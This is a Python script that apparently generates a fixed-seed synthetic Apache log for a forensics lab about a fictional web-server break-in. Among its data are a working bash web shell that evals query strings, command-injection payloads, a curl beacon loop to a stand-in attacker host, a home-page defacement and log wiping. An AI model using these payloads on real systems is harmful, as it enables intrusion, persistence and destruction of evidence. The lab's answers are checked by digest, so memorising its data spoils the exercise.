"""Write the central log host's copy of the web server's access log for the night of the
break-in (28 November 2026, the company's local time, UTC+01:00), in Apache's combined
format. A fixed seed: every build writes the same bytes, so the lab's checks can compare
digests of the answers.

What happened (local time):
  00:00-08:40  ordinary visitors (a few dozen addresses) browse the site
  01:02-01:06  198.51.100.23, an internet-wide scanner, tries ~110 well-known paths (404s)
  02:51-02:54  203.0.113.77 brute-forces paths (gobuster) and finds /cgi-bin/lookup.cgi
  03:05-03:06  it probes the lookup tool; at 03:06:02 its first injected command (;id) runs
  03:07-03:12  it drops the web shell /srv/www/cgi-bin/stats.cgi, uses it, starts a
               beacon (/tmp/.sync), defaces the home page and empties the web server's log
  every 15 min it checks in through the web shell (c=uptime)

Usage: make_access_log.py OUTPUT
"""

from __future__ import annotations

import base64
import random
import sys
from datetime import datetime, timedelta, timezone
from urllib.parse import quote as url_quote

LOCAL = timezone(timedelta(hours=1))
NIGHT = datetime(2026, 11, 28, 0, 0, 0, tzinfo=LOCAL)
END = NIGHT + timedelta(hours=8, minutes=40)
ATTACKER = "203.0.113.77"
SCANNER = "198.51.100.23"
STAFF = "10.20.0.15"
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
]
# Response sizes as web serves them (its pages and its plain-text errors).
PAGES = {"/": 470, "/products.html": 512, "/about.html": 482, "/contact.html": 505}
ASSETS = {"/static/style.css": 219, "/static/logo.svg": 211}
ERROR_SIZES = {401: 24, 403: 10, 404: 10}
SCANNER_PATHS = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/phpmyadmin/",
    "/pma/",
    "/admin.php",
    "/config.php",
    "/server-status",
    "/.aws/credentials",
    "/actuator",
    "/actuator/health",
    "/api/v1/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/test.cgi",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/owa/",
    "/solr/",
    "/console/",
    "/manager/html",
    "/.DS_Store",
    "/backup.zip",
    "/db.sql",
    "/shell.php",
]
WORDLIST = [
    "admin",
    "backup",
    "backups",
    "bin",
    "cgi-bin",
    "config",
    "css",
    "data",
    "db",
    "dev",
    "docs",
    "download",
    "downloads",
    "files",
    "images",
    "img",
    "include",
    "js",
    "lib",
    "log",
    "logs",
    "old",
    "private",
    "scripts",
    "secret",
    "static",
    "temp",
    "test",
    "tmp",
    "tools",
    "upload",
    "uploads",
    "user",
    "users",
    "www",
]
# What the attacker wrote (the web image holds the same bytes: web/dropped/).
SHELL_PATH = "/srv/www/cgi-bin/stats.cgi"
WEB_SHELL = (
    "#!/bin/bash\n"
    'echo "Content-Type: text/plain"; echo\n'
    "c=$(printf '%b' \"$(echo \"${QUERY_STRING#c=}\" | sed 's/+/ /g; s/%\\(..\\)/\\\\x\\1/g')\")\n"
    'eval "$c" 2>&1\n'
)
BEACON = "while :; do curl -s -m 5 -o /dev/null http://attacker:8443/beacon?h=web; sleep 30; done\n"
DEFACED = "<h1>Owned by gr3y.sh3ll</h1>\n"
CGI_WORDS = ["test.cgi", "status.cgi", "lookup.cgi", "info.cgi", "ping.cgi", "env.cgi"]


def line(
    when: datetime, ip: str, request: str, status: int, size: int, agent: str, referer: str = "-"
) -> tuple[datetime, str]:
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S %z")
    size_text = str(size) if size else "-"
    return when, f'{ip} - - [{stamp}] "{request}" {status} {size_text} "{referer}" "{agent}"'


def quote(text: str) -> str:
    return url_quote(text, safe="/")


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def get(path: str) -> str:
    return f"GET {path} HTTP/1.1"


def visitors(rng: random.Random) -> list[tuple[datetime, str]]:
    """Customers: a visit is a page, its assets, and a few more pages."""
    out = []
    addresses = [f"192.0.2.{rng.randrange(2, 250)}" for _ in range(18)]
    addresses += [f"198.51.100.{rng.randrange(100, 250)}" for _ in range(12)]
    when = NIGHT + timedelta(seconds=rng.randrange(60, 400))
    while when < END:
        ip, agent = rng.choice(addresses), rng.choice(BROWSERS)
        page = rng.choice(list(PAGES))
        out.append(line(when, ip, get(page), 200, PAGES[page], agent))
        for asset, size in ASSETS.items():
            when += timedelta(seconds=1)
            out.append(
                line(
                    when,
                    ip,
                    get(asset),
                    200,
                    size,
                    agent,
                    f"http://www.harbourfreight.example{page}",
                )
            )
        for _ in range(rng.randrange(0, 3)):
            when += timedelta(seconds=rng.randrange(8, 70))
            nxt = rng.choice(list(PAGES))
            out.append(line(when, ip, get(nxt), 200, PAGES[nxt], agent))
        when += timedelta(seconds=rng.randrange(20, 240))
    return out


def staff(rng: random.Random) -> list[tuple[datetime, str]]:
    """The office uses its DNS lookup tool now and then (the tool the attacker abused)."""
    agent = BROWSERS[0]
    out = []
    for hour, host in [
        (0, "mail.harbourfreight.example"),
        (7, "erp.harbourfreight.example"),
        (8, "mail.harbourfreight.example"),
    ]:
        when = NIGHT + timedelta(
            hours=hour, minutes=rng.randrange(5, 30), seconds=rng.randrange(60)
        )
        out.append(line(when, STAFF, get(f"/cgi-bin/lookup.cgi?host={host}"), 200, 118, agent))
    return out


def scanner(rng: random.Random) -> list[tuple[datetime, str]]:
    """Internet background noise: many paths, nothing found, nothing exploited."""
    agent = "Mozilla/5.0 zgrab/0.x"
    when = NIGHT + timedelta(hours=1, minutes=2, seconds=11)
    out = []
    for _ in range(4):
        for path in SCANNER_PATHS:
            out.append(line(when, SCANNER, get(path), 404, ERROR_SIZES[404], agent))
            when += timedelta(seconds=rng.randrange(1, 4))
    return out


def attacker(rng: random.Random) -> list[tuple[datetime, str]]:
    out = []
    gobuster = "gobuster/3.6"
    when = NIGHT + timedelta(hours=2, minutes=51, seconds=10)
    found = {"cgi-bin": 403, "static": 403, "admin": 401}  # as web answers them
    for word in WORDLIST:
        status = found.get(word, 404)
        out.append(line(when, ATTACKER, get(f"/{word}/"), status, ERROR_SIZES[status], gobuster))
        when += timedelta(milliseconds=rng.randrange(300, 2500))
    when += timedelta(seconds=40)
    for word in CGI_WORDS:
        status = 200 if word == "lookup.cgi" else 404
        size = 92 if status == 200 else ERROR_SIZES[status]
        out.append(line(when, ATTACKER, get(f"/cgi-bin/{word}"), status, size, gobuster))
        when += timedelta(milliseconds=rng.randrange(300, 2500))

    curl = "curl/8.4.0"
    browser = BROWSERS[0]
    lookup = "/cgi-bin/lookup.cgi?host="
    shell = "/cgi-bin/stats.cgi?c="
    steps = [
        # (local time, request, response size, agent)
        ("03:05:12", lookup + "harbourfreight.example", 112, curl),
        ("03:05:40", lookup + quote("harbourfreight.example'"), 93, curl),
        ("03:05:51", lookup + quote('harbourfreight.example"'), 93, curl),
        ("03:06:02", lookup + quote("harbourfreight.example;id"), 166, curl),
        ("03:06:30", lookup + quote("x;uname -a"), 171, curl),
        ("03:06:58", lookup + quote("x;ls -ld /srv/www/cgi-bin"), 148, curl),
        ("03:07:15", lookup + quote(f"x;echo {b64(WEB_SHELL)}|base64 -d>{SHELL_PATH}"), 93, curl),
        ("03:07:40", lookup + quote(f"x;chmod 755 {SHELL_PATH}"), 93, curl),
        ("03:08:05", shell + "id", 54, browser),
        ("03:08:31", shell + quote("ls -la /srv/www"), 402, browser),
        ("03:09:10", shell + quote("cat /etc/passwd"), 1203, browser),
        ("03:09:48", shell + quote("ps -ef"), 611, browser),
        ("03:10:26", shell + quote(f"echo {b64(BEACON)}|base64 -d>/tmp/.sync"), 0, browser),
        ("03:10:41", shell + quote("nohup /bin/sh /tmp/.sync >/dev/null 2>&1 &"), 0, browser),
        (
            "03:11:20",
            shell + quote(f"echo {b64(DEFACED)}|base64 -d>/srv/www/html/index.html"),
            0,
            browser,
        ),
        ("03:11:37", "/", len(DEFACED), browser),
        ("03:12:09", shell + quote(":>/var/log/web/access.log"), 0, browser),
    ]
    for clock, path, size, agent in steps:
        h, m, s = (int(part) for part in clock.split(":"))
        out.append(
            line(NIGHT.replace(hour=h, minute=m, second=s), ATTACKER, get(path), 200, size, agent)
        )
    when = NIGHT.replace(hour=3, minute=27, second=5)
    while when < END:
        out.append(line(when, ATTACKER, get("/cgi-bin/stats.cgi?c=uptime"), 200, 71, browser))
        when += timedelta(minutes=15, seconds=rng.randrange(-20, 20))
    return out


def deface_sizes(entries: list[tuple[datetime, str]]) -> list[tuple[datetime, str]]:
    """After 03:11:20 the home page is the defaced one."""
    defaced = NIGHT.replace(hour=3, minute=11, second=20)
    return [
        (when, text.replace('"GET / HTTP/1.1" 200 470', f'"GET / HTTP/1.1" 200 {len(DEFACED)}'))
        if when > defaced
        else (when, text)
        for when, text in entries
    ]


def main(output: str) -> None:
    rng = random.Random(20261128)
    entries = visitors(rng) + staff(rng) + scanner(rng) + attacker(rng)
    entries = deface_sizes(sorted(entries, key=lambda entry: entry[0]))
    with open(output, "w", encoding="ascii") as out:
        out.writelines(text + "\n" for when, text in entries if when < END)


if __name__ == "__main__":
    main(sys.argv[1])
